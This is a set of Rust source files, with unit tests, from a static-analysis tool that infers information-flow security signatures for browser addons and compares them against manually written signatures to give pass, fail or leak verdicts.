    fn exact_match_passes() {
        let mut sig = Signature::new();
        sig.add_flow(
            inferred_entry(Pre::exact("http://rank.google.com/q"), t(1)),
            None,
        );
        let c = compare(&sig, &manual_url_send("rank.google.com", t(1)), |_| false, |_| false);
        assert_eq!(c.verdict, Verdict::Pass);
        assert_eq!(c.matched.len(), 1);
        assert!(c.extra.is_empty() && c.missing.is_empty());
    }

    #[test]
    fn unknown_domain_fails() {
        // The LessSpamPlease / VKVideoDownloader outcome.
        let mut sig = Signature::new();
        sig.add_flow(inferred_entry(Pre::any(), t(1)), None);
        let c = compare(&sig, &manual_url_send("lesspam.example", t(1)), |_| false, |_| false);
        assert_eq!(c.verdict, Verdict::Fail);
        assert_eq!(c.matched[0].2, MatchQuality::ImpreciseDomain);
    }

    #[test]
    fn real_extra_flow_leaks() {
        // The YoutubeDownloader outcome: an undocumented real flow.
        let mut sig = Signature::new();
        sig.add_flow(
            inferred_entry(Pre::exact("http://youtube.com/get_video"), t(1)),
            None,
        );
        let manual = ManualSignature::empty();
        let c = compare(&sig, &manual, |_| true, |_| false);
        assert_eq!(c.verdict, Verdict::Leak);
        assert_eq!(c.extra.len(), 1);
        assert!(c.extra[0].1);
    }

    #[test]
    fn spurious_extra_flow_fails() {
        let mut sig = Signature::new();
        sig.add_flow(
            inferred_entry(Pre::exact("http://a.example/x"), t(8)),
            None,
        );
        let c = compare(&sig, &ManualSignature::empty(), |_| false, |_| false);
        assert_eq!(c.verdict, Verdict::Fail);
    }

    #[test]
    fn leak_outranks_fail() {
        let mut sig = Signature::new();
        sig.add_flow(inferred_entry(Pre::exact("http://real.leak/x"), t(1)), None);
        sig.add_flow(inferred_entry(Pre::exact("http://noise.example/y"), t(8)), None);
        let c = compare(
            &sig,
            &ManualSignature::empty(),
            |e| e.sink.domain.known_text().unwrap().contains("real.leak"),
            |_| false,
        );
        assert_eq!(c.verdict, Verdict::Leak);
    }

    #[test]
    fn missing_entry_reported() {
        let sig = Signature::new();
        let c = compare(&sig, &manual_url_send("x.example", t(1)), |_| false, |_| false);
        assert_eq!(c.missing.len(), 1);
        assert_eq!(c.verdict, Verdict::Fail);
    }

    #[test]
    fn flow_type_mismatch_is_extra() {
        let mut sig = Signature::new();
        sig.add_flow(
            inferred_entry(Pre::exact("http://host.example/q"), t(4)),
            None,
        );
        let c = compare(&sig, &manual_url_send("host.example", t(1)), |_| false, |_| false);
        assert_eq!(c.verdict, Verdict::Fail);
        assert_eq!(c.extra.len(), 1);
        assert_eq!(c.missing.len(), 1);
    }

    #[test]
    fn domain_compatibility_rules() {
        assert!(domain_precise(
            &Pre::exact("http://a.chess.com/turn"),
            "chess.com"
        ));
        assert!(!domain_precise(&Pre::any(), "chess.com"));
        assert!(domain_compatible(&Pre::any(), "chess.com"));
        assert!(domain_compatible(
            &Pre::prefix("http://chess.com/"),
            "chess.com"
        ));
        assert!(!domain_compatible(
            &Pre::exact("http://other.example/"),
            "chess.com"
        ));
        assert!(!domain_compatible(&Pre::Bot, "chess.com"));
    }

    fn df(source: &str, flow: &str, sink: &str, domain: Option<&str>) -> DriftFlow {
        DriftFlow {
            source: source.to_owned(),
            flow: flow.to_owned(),
            sink_kind: sink.to_owned(),
            domain: domain.map(str::to_owned),
        }
    }

    #[test]
    fn identical_flow_sets_report_no_drift() {
        let flows = vec![
            df("url", "type1", "send", Some("http://a.example/")),
            df("keypress", "type4", "inject", None),
        ];
        let drift = classify_flow_drift(&flows, &flows);
        assert!(drift.is_empty());
    }

    #[test]
    fn same_endpoints_different_type_is_retyped_not_add_remove() {
        let old = vec![df("url", "type1", "send", Some("http://a.example/"))];
        let new = vec![df("url", "type3", "send", Some("http://a.example/"))];
        let drift = classify_flow_drift(&old, &new);
        assert!(drift.added.is_empty() && drift.removed.is_empty());
        assert_eq!(drift.retyped.len(), 1);
        let r = &drift.retyped[0];
        assert_eq!((r.old_flow.as_str(), r.new_flow.as_str()), ("type1", "type3"));
        assert_eq!(r.to_string(), "url --type1=>type3--> send(http://a.example/)");
    }

    #[test]
    fn added_and_removed_flows_classify_separately() {
        let old = vec![
            df("url", "type1", "send", Some("http://kept.example/")),
            df("url", "type1", "send", Some("http://gone.example/")),
        ];
        let new = vec![
            df("url", "type1", "send", Some("http://kept.example/")),
            df("cookie", "type2", "send", Some("http://new.example/")),
        ];
        let drift = classify_flow_drift(&old, &new);
        assert_eq!(drift.removed, [df("url", "type1", "send", Some("http://gone.example/"))]);
        assert_eq!(drift.added, [df("cookie", "type2", "send", Some("http://new.example/"))]);
        assert!(drift.retyped.is_empty());
    }

    #[test]
    fn drift_report_is_order_independent() {
        let old = vec![
            df("url", "type1", "send", Some("a")),
            df("cookie", "type2", "send", Some("b")),
            df("keypress", "type4", "inject", None),
        ];
        let mut old_rev = old.clone();
        old_rev.reverse();
        let new = vec![
            df("url", "type3", "send", Some("a")), // retyped
            df("keypress", "type4", "inject", None),
        ];
        let mut new_rev = new.clone();
        new_rev.reverse();
        assert_eq!(
            classify_flow_drift(&old, &new),
            classify_flow_drift(&old_rev, &new_rev)
        );
    }

    #[test]
    fn exact_match_cancels_before_retype_pairing() {
        // One endpoint carries two flow types in both snapshots; the
        // shared (endpoint, type) pair must cancel exactly, leaving only
        // the genuine transition.
        let old = vec![
            df("url", "type1", "send", Some("a")),
            df("url", "type3", "send", Some("a")),
        ];
        let new = vec![
            df("url", "type3", "send", Some("a")),
            df("url", "type5", "send", Some("a")),
        ];
        let drift = classify_flow_drift(&old, &new);
        assert!(drift.added.is_empty() && drift.removed.is_empty());
        assert_eq!(drift.retyped.len(), 1);
        assert_eq!(
            (drift.retyped[0].old_flow.as_str(), drift.retyped[0].new_flow.as_str()),
            ("type1", "type5")
        );
    }
}
