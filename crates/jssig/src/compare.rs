//! Comparing inferred signatures against manually-written ones
//! (Section 6.2-6.3 of the paper).
//!
//! The paper writes a manual signature per addon from its developer
//! summary, then classifies each addon as **pass** (inferred matches
//! manual), **fail** (inferred has extra flows that are false positives /
//! imprecision -- in the paper's two failures, an imprecisely-inferred
//! network domain), or **leak** (inferred has extra flows that are real).
//! Deciding whether an extra flow is real required manual inspection in
//! the paper; here ground truth is supplied by the caller (the corpus
//! records it for every benchmark addon).

use crate::flowtype::FlowType;
use crate::signature::{FlowEntry, Signature};
use jsanalysis::{SinkKind, SourceKind};
use jsdomains::Pre;
use std::fmt;

/// One entry of a manually-written signature.
#[derive(Debug, Clone, PartialEq)]
pub struct ManualEntry {
    /// Expected source.
    pub source: SourceKind,
    /// Expected sink kind.
    pub sink_kind: SinkKind,
    /// Expected network domain (a substring the inferred domain's known
    /// text must contain), or `None` for domain-less sinks.
    pub domain: Option<String>,
    /// Expected flow type.
    pub flow: FlowType,
}

impl fmt::Display for ManualEntry {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(f, "{} --{}--> {}", self.source, self.flow, self.sink_kind)?;
        if let Some(d) = &self.domain {
            write!(f, "({d})")?;
        }
        Ok(())
    }
}

/// A manually-written signature (from the addon's developer summary).
#[derive(Debug, Clone, Default, PartialEq)]
pub struct ManualSignature {
    /// Expected flow entries.
    pub entries: Vec<ManualEntry>,
    /// Sinks the addon is expected to communicate with even without an
    /// interesting source (category C addons): (sink kind, domain).
    pub plain_sinks: Vec<(SinkKind, String)>,
}

impl ManualSignature {
    /// A signature with no expected flows.
    pub fn empty() -> ManualSignature {
        ManualSignature::default()
    }
}

/// How an inferred entry relates to the manual signature.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum MatchQuality {
    /// Source, sink, flow type and domain all match.
    Precise,
    /// Source, sink and flow type match but the inferred domain is too
    /// coarse to pin down the expected one (the paper's two `fail`s).
    ImpreciseDomain,
}

/// The per-addon verdict of Table 2.
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord)]
pub enum Verdict {
    /// Inferred signature has no more flows than the manual one.
    Pass,
    /// Extra/imprecise flows that are false positives or imprecision.
    Fail,
    /// Extra flows that are real (unexpected, undocumented behavior).
    Leak,
}

impl fmt::Display for Verdict {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match self {
            Verdict::Pass => write!(f, "pass"),
            Verdict::Fail => write!(f, "fail"),
            Verdict::Leak => write!(f, "leak"),
        }
    }
}

/// Detailed result of a comparison.
#[derive(Debug, Clone)]
pub struct Comparison {
    /// The overall verdict.
    pub verdict: Verdict,
    /// (manual entry index, inferred entry, quality) for matched entries.
    pub matched: Vec<(usize, FlowEntry, MatchQuality)>,
    /// Inferred entries with no manual counterpart, with the ground-truth
    /// classification supplied by the caller (`true` = real flow).
    pub extra: Vec<(FlowEntry, bool)>,
    /// Inferred sink-only entries not covered by the manual signature,
    /// with ground truth (`true` = the addon really communicates there).
    pub extra_sinks: Vec<(crate::signature::SigSink, bool)>,
    /// Manual entries the analysis failed to find (would indicate
    /// unsoundness; empty on the whole corpus).
    pub missing: Vec<ManualEntry>,
}

/// True if the inferred prefix-domain element pins down the expected
/// domain: its known text must mention the expected host.
fn domain_precise(inferred: &Pre, expected: &str) -> bool {
    inferred
        .known_text()
        .is_some_and(|t| t.contains(expected))
}

/// True if the inferred domain is at least *compatible* with the expected
/// one (could still denote it).
fn domain_compatible(inferred: &Pre, expected: &str) -> bool {
    match inferred {
        Pre::Bot => false,
        Pre::Exact(s) => s.contains(expected),
        Pre::Prefix(p) => {
            // A prefix is compatible if the expected domain extends it or
            // it already contains the expected host.
            p.contains(expected)
                || expected.contains(p.as_str())
                || p.is_empty()
                || expected.starts_with(p.as_str())
                // Conservative: short prefixes (scheme only) are compatible
                // with anything.
                || p.len() <= "https://".len()
        }
    }
}

/// Compares an inferred signature against the manual one. `is_real_flow`
/// supplies ground truth for inferred flow entries absent from the manual
/// signature, and `is_real_sink` for extra sink-only entries (the paper's
/// "manual inspection").
///
/// One inferred entry may cover several manual entries: a single
/// unknown-domain entry covers all three player domains of the paper's
/// VKVideoDownloader example (imprecisely, producing `fail`).
pub fn compare(
    inferred: &Signature,
    manual: &ManualSignature,
    is_real_flow: impl Fn(&FlowEntry) -> bool,
    is_real_sink: impl Fn(&crate::signature::SigSink) -> bool,
) -> Comparison {
    let mut matched: Vec<(usize, FlowEntry, MatchQuality)> = Vec::new();
    let mut extra: Vec<(FlowEntry, bool)> = Vec::new();
    let mut used_manual: Vec<bool> = vec![false; manual.entries.len()];

    for entry in &inferred.flows {
        let mut any_match = false;
        for (i, m) in manual.entries.iter().enumerate() {
            if m.source != entry.source || m.sink_kind != entry.sink.kind {
                continue;
            }
            if m.flow != entry.flow {
                continue;
            }
            let quality = match &m.domain {
                None => MatchQuality::Precise,
                Some(d) if domain_precise(&entry.sink.domain, d) => MatchQuality::Precise,
                Some(d) if domain_compatible(&entry.sink.domain, d) => {
                    MatchQuality::ImpreciseDomain
                }
                Some(_) => continue,
            };
            used_manual[i] = true;
            matched.push((i, entry.clone(), quality));
            any_match = true;
        }
        if !any_match {
            let real = is_real_flow(entry);
            extra.push((entry.clone(), real));
        }
    }

    let missing: Vec<ManualEntry> = manual
        .entries
        .iter()
        .zip(&used_manual)
        .filter(|(_, used)| !**used)
        .map(|(m, _)| m.clone())
        .collect();

    // Sink-only entries: an inferred sink is expected if compatible with a
    // manual plain sink or with the domain of any manual flow entry.
    let mut extra_sinks: Vec<(crate::signature::SigSink, bool)> = Vec::new();
    for sink in &inferred.sinks {
        let expected = manual
            .plain_sinks
            .iter()
            .any(|(k, d)| *k == sink.kind && domain_compatible(&sink.domain, d))
            || manual.entries.iter().any(|m| {
                m.sink_kind == sink.kind
                    && m.domain
                        .as_deref()
                        .is_none_or(|d| domain_compatible(&sink.domain, d))
            });
        if !expected {
            extra_sinks.push((sink.clone(), is_real_sink(sink)));
        }
    }

    let any_real_extra = extra.iter().any(|(_, real)| *real)
        || extra_sinks.iter().any(|(_, real)| *real);
    let any_false_extra = extra.iter().any(|(_, real)| !*real)
        || extra_sinks.iter().any(|(_, real)| !*real);
    let any_imprecise = matched
        .iter()
        .any(|(_, _, q)| *q == MatchQuality::ImpreciseDomain);

    let verdict = if any_real_extra {
        Verdict::Leak
    } else if any_false_extra || any_imprecise || !missing.is_empty() {
        Verdict::Fail
    } else {
        Verdict::Pass
    };

    Comparison {
        verdict,
        matched,
        extra,
        extra_sinks,
        missing,
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::signature::SigSink;

    fn t(n: u8) -> FlowType {
        FlowType(n - 1)
    }

    fn inferred_entry(domain: Pre, flow: FlowType) -> FlowEntry {
        FlowEntry {
            source: SourceKind::Url,
            sink: SigSink {
                kind: SinkKind::Send,
                domain,
            },
            flow,
        }
    }

    fn manual_url_send(domain: &str, flow: FlowType) -> ManualSignature {
        ManualSignature {
            entries: vec![ManualEntry {
                source: SourceKind::Url,
                sink_kind: SinkKind::Send,
                domain: Some(domain.to_owned()),
                flow,
            }],
            plain_sinks: Vec::new(),
        }
    }

    #[test]
    fn exact_match_passes() {
        let mut sig = Signature::new();
        sig.add_flow(
            inferred_entry(Pre::exact("http://rank.google.com/q"), t(1)),
            None,
        );
        let c = compare(&sig, &manual_url_send("rank.google.com", t(1)), |_| false, |_| false);
        assert_eq!(c.verdict, Verdict::Pass);
        assert_eq!(c.matched.len(), 1);
        assert!(c.extra.is_empty() && c.missing.is_empty());
    }

    #[test]
    fn unknown_domain_fails() {
        // The LessSpamPlease / VKVideoDownloader outcome.
        let mut sig = Signature::new();
        sig.add_flow(inferred_entry(Pre::any(), t(1)), None);
        let c = compare(&sig, &manual_url_send("lesspam.example", t(1)), |_| false, |_| false);
        assert_eq!(c.verdict, Verdict::Fail);
        assert_eq!(c.matched[0].2, MatchQuality::ImpreciseDomain);
    }

    #[test]
    fn real_extra_flow_leaks() {
        // The YoutubeDownloader outcome: an undocumented real flow.
        let mut sig = Signature::new();
        sig.add_flow(
            inferred_entry(Pre::exact("http://youtube.com/get_video"), t(1)),
            None,
        );
        let manual = ManualSignature::empty();
        let c = compare(&sig, &manual, |_| true, |_| false);
        assert_eq!(c.verdict, Verdict::Leak);
        assert_eq!(c.extra.len(), 1);
        assert!(c.extra[0].1);
    }

    #[test]
    fn spurious_extra_flow_fails() {
        let mut sig = Signature::new();
        sig.add_flow(
            inferred_entry(Pre::exact("http://a.example/x"), t(8)),
            None,
        );
        let c = compare(&sig, &ManualSignature::empty(), |_| false, |_| false);
        assert_eq!(c.verdict, Verdict::Fail);
    }

    #[test]
    fn leak_outranks_fail() {
        let mut sig = Signature::new();
        sig.add_flow(inferred_entry(Pre::exact("http://real.leak/x"), t(1)), None);
        sig.add_flow(inferred_entry(Pre::exact("http://noise.example/y"), t(8)), None);
        let c = compare(
            &sig,
            &ManualSignature::empty(),
            |e| e.sink.domain.known_text().unwrap().contains("real.leak"),
            |_| false,
        );
        assert_eq!(c.verdict, Verdict::Leak);
    }

    #[test]
    fn missing_entry_reported() {
        let sig = Signature::new();
        let c = compare(&sig, &manual_url_send("x.example", t(1)), |_| false, |_| false);
        assert_eq!(c.missing.len(), 1);
        assert_eq!(c.verdict, Verdict::Fail);
    }

    #[test]
    fn flow_type_mismatch_is_extra() {
        let mut sig = Signature::new();
        sig.add_flow(
            inferred_entry(Pre::exact("http://host.example/q"), t(4)),
            None,
        );
        let c = compare(&sig, &manual_url_send("host.example", t(1)), |_| false, |_| false);
        assert_eq!(c.verdict, Verdict::Fail);
        assert_eq!(c.extra.len(), 1);
        assert_eq!(c.missing.len(), 1);
    }

    #[test]
    fn domain_compatibility_rules() {
        assert!(domain_precise(
            &Pre::exact("http://a.chess.com/turn"),
            "chess.com"
        ));
        assert!(!domain_precise(&Pre::any(), "chess.com"));
        assert!(domain_compatible(&Pre::any(), "chess.com"));
        assert!(domain_compatible(
            &Pre::prefix("http://chess.com/"),
            "chess.com"
        ));
        assert!(!domain_compatible(
            &Pre::exact("http://other.example/"),
            "chess.com"
        ));
        assert!(!domain_compatible(&Pre::Bot, "chess.com"));
    }
}
