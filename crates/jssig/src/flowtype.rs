//! The flow-type lattice of Figure 4, with the `extend` and `max` helper
//! functions of Section 4.2.
//!
//! Each flow type is identified with the *set of edge annotations* a flow
//! of that type may traverse ("a flow of a given type only traverses PDG
//! edges annotated with the given annotation or some annotation at a
//! higher level in the lattice"). The partial order is reverse inclusion
//! of those sets: fewer allowed annotations = stronger type. The paper's
//! default lattice is [`FlowLattice::paper`]; the lattice is
//! "independently configurable to accommodate changes in perceived
//! strength", so custom lattices can be built with
//! [`FlowLattice::from_specs`].

use jspdg::{Annotation, CtrlKind};
use std::collections::BTreeSet;
use std::fmt;

/// A flow type: an index into a [`FlowLattice`]. In the paper's lattice,
/// index 0 is `type1` (strongest) through index 7 = `type8` (weakest).
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, PartialOrd, Ord)]
pub struct FlowType(pub u8);

impl FlowType {
    /// One-based display number (`type1`..`type8` for the paper lattice).
    pub fn number(self) -> u8 {
        self.0 + 1
    }
}

impl fmt::Display for FlowType {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(f, "type{}", self.number())
    }
}

/// One flow type's definition.
#[derive(Debug, Clone)]
pub struct FlowTypeSpec {
    /// Human-readable name.
    pub name: String,
    /// The PDG edge annotations a flow of this type may traverse.
    pub allowed: BTreeSet<Annotation>,
}

/// A configurable flow-type lattice.
#[derive(Debug, Clone)]
pub struct FlowLattice {
    specs: Vec<FlowTypeSpec>,
}

const L_AMP: Annotation = Annotation::Ctrl {
    kind: CtrlKind::Local,
    amp: true,
};
const L: Annotation = Annotation::Ctrl {
    kind: CtrlKind::Local,
    amp: false,
};
const NLE_AMP: Annotation = Annotation::Ctrl {
    kind: CtrlKind::NonLocExp,
    amp: true,
};
const NLE: Annotation = Annotation::Ctrl {
    kind: CtrlKind::NonLocExp,
    amp: false,
};
const NLI_AMP: Annotation = Annotation::Ctrl {
    kind: CtrlKind::NonLocImp,
    amp: true,
};
const NLI: Annotation = Annotation::Ctrl {
    kind: CtrlKind::NonLocImp,
    amp: false,
};

impl FlowLattice {
    /// The eight-point lattice of Figure 4.
    pub fn paper() -> FlowLattice {
        use Annotation::{DataStrong, DataWeak};
        let t = |name: &str, anns: &[Annotation]| FlowTypeSpec {
            name: name.to_owned(),
            allowed: anns.iter().copied().collect(),
        };
        FlowLattice {
            specs: vec![
                t("type1", &[DataStrong]),
                t("type2", &[DataStrong, DataWeak]),
                t("type3", &[DataStrong, DataWeak, L_AMP]),
                t("type4", &[DataStrong, DataWeak, L_AMP, L]),
                t("type5", &[DataStrong, DataWeak, L_AMP, NLE_AMP]),
                t("type6", &[DataStrong, DataWeak, L_AMP, L, NLE_AMP, NLE]),
                t("type7", &[DataStrong, DataWeak, L_AMP, NLE_AMP, NLI_AMP]),
                t(
                    "type8",
                    &[DataStrong, DataWeak, L_AMP, L, NLE_AMP, NLE, NLI_AMP, NLI],
                ),
            ],
        }
    }

    /// Builds a custom lattice. The final spec must allow every annotation
    /// (there must be a weakest type), and the family of allowed-sets must
    /// be closed under intersection so `extend` is well-defined.
    ///
    /// # Panics
    ///
    /// Panics if no spec allows all eight annotations.
    pub fn from_specs(specs: Vec<FlowTypeSpec>) -> FlowLattice {
        assert!(
            specs
                .iter()
                .any(|s| Annotation::ALL.iter().all(|a| s.allowed.contains(a))),
            "lattice must contain a weakest flow type allowing every annotation"
        );
        FlowLattice { specs }
    }

    /// Number of flow types.
    pub fn len(&self) -> usize {
        self.specs.len()
    }

    /// True if the lattice has no types (never true for valid lattices).
    pub fn is_empty(&self) -> bool {
        self.specs.is_empty()
    }

    /// The spec of a type.
    pub fn spec(&self, t: FlowType) -> &FlowTypeSpec {
        &self.specs[t.0 as usize]
    }

    /// The strongest flow type: the one whose allowed set is minimal and
    /// contains `DataStrong` (the paper's `type1`, used to initialize the
    /// propagation).
    pub fn strongest(&self) -> FlowType {
        let mut best: Option<FlowType> = None;
        for (i, s) in self.specs.iter().enumerate() {
            let t = FlowType(i as u8);
            if best.is_none_or(|b| s.allowed.len() < self.spec(b).allowed.len()) {
                best = Some(t);
            }
        }
        best.expect("non-empty lattice")
    }

    /// Partial order: `a` is at least as strong as `b` (higher or equal in
    /// Figure 4) iff `allowed(a) ⊆ allowed(b)`.
    pub fn stronger_or_equal(&self, a: FlowType, b: FlowType) -> bool {
        self.spec(a).allowed.is_subset(&self.spec(b).allowed)
    }

    /// The paper's `extend`: the strongest flow type whose allowed set
    /// includes all of `t`'s annotations plus `ann`.
    pub fn extend(&self, t: FlowType, ann: Annotation) -> FlowType {
        let mut need = self.spec(t).allowed.clone();
        need.insert(ann);
        let mut best: Option<FlowType> = None;
        for (i, s) in self.specs.iter().enumerate() {
            if need.is_subset(&s.allowed) {
                let cand = FlowType(i as u8);
                best = Some(match best {
                    None => cand,
                    Some(b) if self.stronger_or_equal(cand, b) => cand,
                    Some(b) => b,
                });
            }
        }
        best.expect("weakest type is always a superset")
    }

    /// The paper's `max`: the maximal (strongest) antichain of a set of
    /// flow types.
    pub fn max(&self, types: &BTreeSet<FlowType>) -> BTreeSet<FlowType> {
        types
            .iter()
            .copied()
            .filter(|&t| {
                !types
                    .iter()
                    .any(|&o| o != t && self.stronger_or_equal(o, t))
            })
            .collect()
    }
}

impl Default for FlowLattice {
    fn default() -> Self {
        FlowLattice::paper()
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn t(n: u8) -> FlowType {
        FlowType(n - 1)
    }

    #[test]
    fn paper_lattice_shape() {
        let l = FlowLattice::paper();
        assert_eq!(l.len(), 8);
        assert_eq!(l.strongest(), t(1));
        // Chain type1 > type2 > type3.
        assert!(l.stronger_or_equal(t(1), t(2)));
        assert!(l.stronger_or_equal(t(2), t(3)));
        assert!(l.stronger_or_equal(t(3), t(4)));
        assert!(l.stronger_or_equal(t(3), t(5)));
        // type4 and type5 incomparable.
        assert!(!l.stronger_or_equal(t(4), t(5)));
        assert!(!l.stronger_or_equal(t(5), t(4)));
        // type6 below both 4 and 5; type7 below 5 only.
        assert!(l.stronger_or_equal(t(4), t(6)));
        assert!(l.stronger_or_equal(t(5), t(6)));
        assert!(l.stronger_or_equal(t(5), t(7)));
        assert!(!l.stronger_or_equal(t(4), t(7)));
        assert!(!l.stronger_or_equal(t(6), t(7)));
        assert!(!l.stronger_or_equal(t(7), t(6)));
        // type8 is the bottom.
        for i in 1..=8 {
            assert!(l.stronger_or_equal(t(i), t(8)));
        }
    }

    #[test]
    fn extend_examples_from_paper() {
        // "extend(type4, nonlocexp^amp) = type6, and
        //  extend(local^amp [type3], nonlocexp^amp) = type5"
        let l = FlowLattice::paper();
        assert_eq!(l.extend(t(4), NLE_AMP), t(6));
        assert_eq!(l.extend(t(3), NLE_AMP), t(5));
    }

    #[test]
    fn max_example_from_paper() {
        // "max({type4, type5, type6}) = {type4, type5}"
        let l = FlowLattice::paper();
        let set: BTreeSet<FlowType> = [t(4), t(5), t(6)].into_iter().collect();
        let m = l.max(&set);
        assert_eq!(m, [t(4), t(5)].into_iter().collect());
    }

    #[test]
    fn extend_with_already_allowed_is_identity() {
        let l = FlowLattice::paper();
        assert_eq!(l.extend(t(2), Annotation::DataStrong), t(2));
        assert_eq!(l.extend(t(1), Annotation::DataStrong), t(1));
        assert_eq!(l.extend(t(8), NLI), t(8));
    }

    #[test]
    fn extend_data_weak_from_strongest() {
        let l = FlowLattice::paper();
        assert_eq!(l.extend(t(1), Annotation::DataWeak), t(2));
        assert_eq!(l.extend(t(1), L), t(4));
        assert_eq!(l.extend(t(1), L_AMP), t(3));
        assert_eq!(l.extend(t(1), NLI), t(8));
        assert_eq!(l.extend(t(1), NLI_AMP), t(7));
    }

    #[test]
    fn allowed_sets_closed_under_intersection() {
        // This property makes `extend` unique.
        let l = FlowLattice::paper();
        for a in 0..8u8 {
            for b in 0..8u8 {
                let inter: BTreeSet<Annotation> = l
                    .spec(FlowType(a))
                    .allowed
                    .intersection(&l.spec(FlowType(b)).allowed)
                    .copied()
                    .collect();
                assert!(
                    l.specs.iter().any(|s| s.allowed == inter),
                    "intersection of type{} and type{} not a type",
                    a + 1,
                    b + 1
                );
            }
        }
    }

    #[test]
    #[should_panic(expected = "weakest flow type")]
    fn custom_lattice_needs_bottom() {
        FlowLattice::from_specs(vec![FlowTypeSpec {
            name: "only-data".into(),
            allowed: [Annotation::DataStrong].into_iter().collect(),
        }]);
    }

    #[test]
    fn custom_two_point_lattice() {
        let l = FlowLattice::from_specs(vec![
            FlowTypeSpec {
                name: "explicit".into(),
                allowed: [Annotation::DataStrong, Annotation::DataWeak]
                    .into_iter()
                    .collect(),
            },
            FlowTypeSpec {
                name: "any".into(),
                allowed: Annotation::ALL.into_iter().collect(),
            },
        ]);
        assert_eq!(l.extend(FlowType(0), L), FlowType(1));
        assert_eq!(l.extend(FlowType(0), Annotation::DataWeak), FlowType(0));
    }

    #[test]
    fn display() {
        assert_eq!(t(1).to_string(), "type1");
        assert_eq!(t(8).to_string(), "type8");
    }
}
