//! Signature inference (Section 4.2): ties together source statements,
//! the annotated PDG, flow-type propagation, and sink records.

use crate::flowtype::FlowLattice;
use crate::propagate::propagate;
use crate::signature::{FlowEntry, ProvenanceStep, SigSink, Signature};
use jsanalysis::{AnalysisResult, SourceKind};
use jsir::{Lowered, StmtId};
use jspdg::Pdg;
use sigtrace::{Counter, Counters, Trace};
use std::collections::{BTreeMap, BTreeSet};

/// Whether phase 1 alone proves the signature can contain no flow
/// entries. A [`FlowEntry`] requires both a *reachable* statement reading
/// an interesting source (to seed propagation) and a *reachable*
/// interesting sink (to read a flow type off) — both facts the base
/// analysis already computed. When either set is empty, phases 2–3 can
/// only produce the flows-free signature, so a triage-tier pipeline may
/// skip PDG construction entirely and run inference against an empty
/// PDG: the result is byte-identical to the full run by construction
/// (sinks and API entries are phase-1-derived; see [`infer_signature`]).
pub fn flows_impossible(analysis: &AnalysisResult) -> bool {
    let has_source = analysis.source_stmts().iter().any(|(stmt, kinds)| {
        analysis.reachable.contains(stmt)
            && kinds.iter().any(|k| analysis.interesting_sources.contains(k))
    });
    if !has_source {
        return true;
    }
    !analysis
        .sinks
        .iter()
        .any(|s| analysis.reachable.contains(&s.stmt))
}

/// Infers the security signature of an analyzed addon.
///
/// For each interesting source kind: collect the statements reading that
/// source, propagate flow types over the PDG, and read off the strongest
/// flow types at every interesting sink. API usage (including uses with
/// no interesting source flowing in) is reported as `sink`-only entries.
pub fn infer_signature(
    lowered: &Lowered,
    analysis: &AnalysisResult,
    pdg: &Pdg,
    lattice: &FlowLattice,
) -> Signature {
    infer_signature_traced(lowered, analysis, pdg, lattice, &mut Trace::Off)
}

/// Signature inference with an observability hook: `trace` receives one
/// `propagate` sub-span per interesting source kind plus the phase-3
/// counters (propagation steps, flow-type raises, reported flows). With
/// [`Trace::Off`] this is [`infer_signature`].
pub fn infer_signature_traced(
    lowered: &Lowered,
    analysis: &AnalysisResult,
    pdg: &Pdg,
    lattice: &FlowLattice,
    trace: &mut Trace<'_>,
) -> Signature {
    let mut sig = Signature::new();
    let mut counters = Counters::new();

    // Group source statements by kind, keeping only reachable ones.
    let mut by_kind: BTreeMap<SourceKind, BTreeSet<StmtId>> = BTreeMap::new();
    for (stmt, kinds) in analysis.source_stmts() {
        if !analysis.reachable.contains(&stmt) {
            continue;
        }
        for k in kinds {
            if analysis.interesting_sources.contains(&k) {
                by_kind.entry(k).or_default().insert(stmt);
            }
        }
    }

    // Sinks: reachable sink statements with their domains.
    let sinks: Vec<(StmtId, SigSink)> = analysis
        .sinks
        .iter()
        .filter(|s| analysis.reachable.contains(&s.stmt))
        .map(|s| {
            (
                s.stmt,
                SigSink {
                    kind: s.kind.clone(),
                    domain: s.domain.clone(),
                },
            )
        })
        .collect();

    for (kind, sources) in &by_kind {
        trace.span_start("propagate");
        let flow_types = propagate(lattice, pdg, sources);
        trace.span_end("propagate");
        counters.add(Counter::FlowPropSteps, flow_types.steps);
        counters.add(Counter::FlowTypeRaises, flow_types.raises);
        for (sink_stmt, sig_sink) in &sinks {
            for t in flow_types.at(lattice, *sink_stmt) {
                let entry = FlowEntry {
                    source: kind.clone(),
                    sink: sig_sink.clone(),
                    flow: t,
                };
                // Witness: pick the first source statement's span.
                let witness = sources.iter().next().map(|src| {
                    (
                        lowered.program.stmt(*src).span,
                        lowered.program.stmt(*sink_stmt).span,
                    )
                });
                // Provenance: the PDG path that first established this
                // flow type at the sink. First writer wins: the path is
                // already the one for the strongest (reported) type, and
                // kinds iterate deterministically.
                if !sig.provenance.contains_key(&entry) {
                    if let Some(path) = flow_types.provenance(*sink_stmt, t) {
                        let steps = path
                            .into_iter()
                            .map(|(stmt, edge)| ProvenanceStep {
                                stmt,
                                line: lowered.program.stmt(stmt).span.line,
                                edge,
                            })
                            .collect();
                        sig.provenance.insert(entry.clone(), steps);
                    }
                }
                sig.add_flow(entry, witness);
            }
        }
    }

    // Sink-only entries: every reachable interesting sink.
    for (_, sig_sink) in &sinks {
        sig.sinks.insert(sig_sink.clone());
    }

    // API usage entries.
    for (stmt, api) in &analysis.api_uses {
        if analysis.reachable.contains(stmt) {
            sig.apis.insert(api.clone());
        }
    }

    if trace.is_enabled() {
        counters.add(Counter::SignatureFlows, sig.flows.len() as u64);
        trace.add_counters(&counters);
    }
    sig
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::flowtype::FlowType;
    use jsanalysis::{analyze, AnalysisConfig, SinkKind};

    fn infer(src: &str) -> Signature {
        let ast = jsparser::parse(src).unwrap();
        let lowered = jsir::lower(&ast);
        let analysis = analyze(&lowered, &AnalysisConfig::default());
        let pdg = Pdg::build(&lowered, &analysis);
        infer_signature(&lowered, &analysis, &pdg, &FlowLattice::paper())
    }

